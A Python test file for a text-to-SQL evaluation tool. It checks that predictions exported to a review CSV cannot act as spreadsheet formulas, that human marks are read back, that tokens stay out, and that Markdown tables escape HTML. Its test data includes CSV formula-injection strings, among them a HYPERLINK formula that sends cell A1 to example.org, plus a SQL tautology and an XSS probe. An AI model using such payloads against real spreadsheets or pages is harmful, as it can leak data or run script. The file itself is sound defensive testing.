"""Predictions for people to mark: what is written can be opened in a spreadsheet without harm, and comes back as it was."""

import csv
import io
import json
from types import SimpleNamespace

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from helpers import UserError
from helpers.evaluation.review import failures_table, kind_of_failure, read_review, samples_table, write_review
from helpers.runs import Run
from helpers.scoring.report import score_predictions

HOSTILE = [
    '=HYPERLINK("http://example.org?" & A1, "SELECT")', "+1", "-1 OR 1=1", "@SUM(A1:A9)", "\t=1+1", "  =1", "'=1", "'quoted'",
    'SELECT "a;b", \'c,d\'\nFROM t', "SELECT name -- Ünïcode 日本語",
]  # fmt: skip


def finished_run(folder, predictions=HOSTILE):
    run = Run(folder, {"stem": "06_llama_qlora", "parameters": {}})
    run.write_lines("predictions.jsonl", [
        {"index": i, "db_id": "shop", "exact": False, "execution": i % 2 == 0, "test_suite": None if i == 9 else i % 2 == 0, "valid": True,
         "reason": "" if i % 2 == 0 else "-wrong rows", "question": f"Question {i}?", "sql": "SELECT 1", "base": "SELECT", "tuned": sql}
        for i, sql in enumerate(predictions)
    ])  # fmt: skip
    run.finish({"headline": {"measure": "test_suite", "name": "test suite accuracy"}, "models": ["base", "tuned"]})
    return run


def cells(path, **options):
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""), **options))


def mark(path, marks, **options):
    """Mark rows as a person does in a spreadsheet and save the file, with another separator if asked."""
    rows = cells(path)
    for number, said in marks.items():
        rows[number]["mark"] = said
    with open(path, "w", encoding="utf-8-sig", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), **options)
        writer.writeheader()
        writer.writerows(rows)


def test_no_cell_begins_as_a_formula_and_every_cell_comes_back(tmp_path):
    path = write_review(finished_run(tmp_path))
    rows = cells(path)
    assert not [cell for row in rows for cell in row.values() if cell.strip().startswith(("=", "+", "-", "@"))]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf"), "Excel takes a file without it for another encoding"
    mark(path, {0: "right"})
    write_review(finished_run(tmp_path))
    assert cells(path)[0]["mark"] == "right", "marks survive a second call, also of a guarded prediction"
    assert len(rows) == len(HOSTILE)


def test_a_row_has_question_schema_both_queries_verdicts_reason_and_a_place_to_mark(tmp_path):
    run = finished_run(tmp_path)
    row = cells(write_review(run))[1]
    assert list(row) == "row question schema gold prediction verdict exact execution test_suite valid reason mark".split()
    assert (row["schema"], row["verdict"], row["exact"], row["valid"], row["mark"]) == ("shop", "wrong", "wrong", "right", "")
    schemas = [f"CREATE TABLE t{i} (a)" for i in range(len(HOSTILE))]
    row = cells(write_review(run, "base", schemas))[2]
    assert (row["schema"], row["prediction"], row["verdict"]) == ("CREATE TABLE t2 (a)", "SELECT", "right")


@pytest.mark.parametrize("options", [{}, {"delimiter": ";"}, {"delimiter": "\t"}, {"lineterminator": "\r\n"}])
def test_the_agreement_of_people_and_verdict_is_read_back_also_from_what_a_spreadsheet_saved(tmp_path, options):
    path = write_review(finished_run(tmp_path))
    assert "0 of 10 rows of review.csv are marked" in read_review(path)["sentence"]
    mark(path, {0: "right", 1: "Wrong", 2: "W", 3: "TRUE", 4: "1", 9: "right"}, **options)  # row 9 has no verdict
    found = read_review(path)
    assert (found["rows"], found["marked"], found["agreement"]["n"], found["agreement"]["rate"]) == (10, 6, 5, 0.6)
    assert (found["too strict"], found["too kind"]) == ([3], [2])
    assert found["sentence"].startswith("people and verdict agree on 60.0 % [")


def test_what_cannot_be_read_as_a_review_gets_one_sentence(tmp_path):
    path = write_review(finished_run(tmp_path))
    mark(path, {4: "maybe"})
    with pytest.raises(UserError, match="Row 5 of review.csv is marked 'maybe': expected right or wrong"):
        read_review(path)
    bad = {b"a,b\n1,2\n": "not what write_review wrote", b"": "lacks rows", "é".encode("latin-1"): "review.csv is not UTF-8 at byte 0"}
    for content, words in bad.items():
        path.write_bytes(content)
        with pytest.raises(UserError, match=words):
            read_review(path)
    with pytest.raises(UserError, match="gone.csv cannot be opened"):
        read_review(tmp_path / "gone.csv")


@settings(deadline=None)
@given(st.lists(st.text(st.characters() | st.sampled_from("\u2028\x85\x0b\x1c\r\n\t\"';,=")), min_size=1, max_size=4))
@example([" "])
@example(["  SELECT 1 ", "\u3000x"])
@example(["\r", " \r\n=1", "\n'x"])
def test_marks_survive_whatever_the_model_wrote(tmp_path_factory, predictions):
    folder = tmp_path_factory.mktemp("review")
    path = write_review(finished_run(folder, predictions))
    mark(path, {0: "right"})
    assert [row["mark"] for row in cells(write_review(Run(folder, {})))] == ["right", *[""] * (len(predictions) - 1)]
    assert read_review(path)["marked"] == 1


def test_no_secret_gets_into_a_review(tmp_path, monkeypatch):
    token = "hf_" + "Xy7" * 12
    monkeypatch.setenv("HF_TOKEN", token)
    text = write_review(finished_run(tmp_path), schemas=[token] * len(HOSTILE)).read_text()
    assert token not in text
    assert json.loads((tmp_path / "predictions.jsonl").read_text().splitlines()[0])["tuned"] in HOSTILE


SCHEMA = "CREATE TABLE book (title TEXT, year INT)"


def fake_exam(base, tuned):
    """An exam of two fixed questions, one without a gold query, and of four test questions."""
    test_set = [{"question": f"Question {i}?", "sql": TITLES, "schema": SCHEMA, "hardness": level, "group": "g", "db_id": "d"}
                for i, level in enumerate(["easy", "easy", "medium", "hard"])]  # fmt: skip
    fixed = [{"question": "Which titles | <b>?", "schema": SCHEMA, "sql": "SELECT title FROM book WHERE year > 1990"},
             {"question": "How many?", "schema": SCHEMA}]  # fmt: skip
    answers = {"base": base, "tuned": tuned}
    reports = {name: score_predictions(test_set, said[2:], generate=True) for name, said in answers.items()}
    return SimpleNamespace(
        demonstrations=fixed, test_set=test_set, reports=reports, answers=answers, query=lambda text: text,
        shown={name: said[:2] for name, said in answers.items()}, sql=lambda name: answers[name][2:],
    )  # fmt: skip


TITLES = "SELECT title FROM book"
TUNED = [f"{TITLES} WHERE year >= 1991", "SELECT nme FROM book", "SELECT year FROM book", TITLES, "SELECT nme FROM book", "SELECT x FROM"]


def test_samples_stand_beside_their_verdicts_and_three_test_questions_join_them():
    table = samples_table(fake_exam(["hello"] * 6, TUNED))
    assert list(table.columns) == ["question", "gold", "base", "tuned", "tuned runs", "tuned is right"]
    assert list(table["tuned is right"]) == ["yes", "-", "yes", "no: no such column: nme", "no: incomplete input"]
    assert list(table["tuned runs"]) == ["yes", "no", "yes", "no", "no"]
    assert table["question"][2] == "Question 1? (test set, easy)", "of the easy ones, one that is right"
    assert table["base"][0] == "hello" and table["tuned"][3] == "SELECT nme FROM book"


def test_failures_show_one_of_each_kind_with_how_many_there_are():
    table = failures_table(fake_exam(["hello"] * 6, TUNED), "tuned")
    assert sorted(table["kind"]) == ["no such column: 1 of 3", "no valid SQL: 1 of 3", "wrong rows: 1 of 3"]
    assert set(table["gold"]) == {TITLES} and "no such column: nme" in set(table["reason"])


def test_a_table_of_queries_is_left_aligned_a_line_a_column_and_every_cell_is_text():
    table = samples_table(fake_exam(["<script>alert(1)</script> | `x`\n$a$"] * 6, TUNED))
    assert table._repr_html_() is None, "GitHub aligns queries to the right in HTML tables"
    text = table._repr_markdown_()
    assert text.splitlines()[1] == "| :--- | :--- |" and len(text.splitlines()) == 2 + 5 * 6
    assert text.splitlines()[2].startswith("| question | **Which titles ")
    assert text.splitlines()[6:8] == ["| tuned runs | yes |", "| tuned is right | yes |"]
    assert "<script>" not in text and "<b>" not in text and "$" not in text and "`" not in text
    assert {line.count("|") for line in text.splitlines()} == {3}
    assert "<code>SELECT title FROM book</code>" in text
    narrow = table[["question", "gold", "base"]]._repr_markdown_()
    assert narrow.startswith("| question | gold | base |"), "three columns fit a phone"


def test_an_answer_without_end_is_cut_where_it_is_shown():
    table = samples_table(fake_exam([f"SELECT {'latest ' * 90}"] * 6, TUNED))
    assert {len(cell) for cell in table["base"]} == {200} and table["base"][0].endswith("...")


@pytest.mark.parametrize(
    ("reason", "kind"),
    [
        ("ambiguous column name: station.name", "ambiguous column"),
        ("no such table: nowhere", "no such table"), ('near "FROM": syntax error', "no valid SQL"), ("incomplete input", "no valid SQL"),
        ("returns as many rows as the gold (1), but other values", "wrong rows"), ("cannot be brought to SQLite: x", "another dialect"),
        ("reads no table, so that its answer is right by luck alone", "reads no table"), ("no such column: time", "no such column"),
        ("", "other"),
    ],
)  # fmt: skip
def test_a_failure_has_a_kind(reason, kind):
    assert kind_of_failure(reason) == kind
